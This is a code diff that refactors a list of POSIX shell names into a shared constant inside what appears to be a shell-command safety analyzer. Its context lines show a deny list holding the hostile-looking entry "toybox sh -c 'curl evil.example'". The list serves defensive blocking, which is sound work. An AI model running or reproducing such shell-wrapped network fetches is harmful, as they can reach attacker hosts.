@@ -79,9 +79,12 @@ const BASH_DENY = [
   "toybox sh -c 'curl evil.example'",
 ] as const;
 
+/** The POSIX-like shells: one list, for their entry and for the programs that hand them text (awk's `print | "sh"`). */
+export const POSIX_SHELLS: readonly string[] = ['bash', 'sh', 'dash', 'ksh', 'mksh', 'ash', 'rbash', 'yash', 'posh', 'ksh93', 'oksh', 'loksh', 'zsh', 'bosh', 'osh', 'ysh', 'hush', 'lksh', 'pdksh', 'sash'];
+
 export const SHELL_ENTRIES: ProgramEntry[] = [
   {
-    names: ['bash', 'sh', 'dash', 'ksh', 'mksh', 'ash', 'rbash', 'yash', 'posh', 'ksh93', 'oksh', 'loksh', 'zsh', 'bosh', 'osh', 'ysh', 'hush', 'lksh', 'pdksh', 'sash'],
+    names: POSIX_SHELLS,
     patterns: [/^(bash|zsh|ksh|mksh)[0-9.]+$/],
     summary: 'POSIX-like shells: -c TEXT, a script read from stdin, or a script file',
     analyze: (call) => posixShell(call),
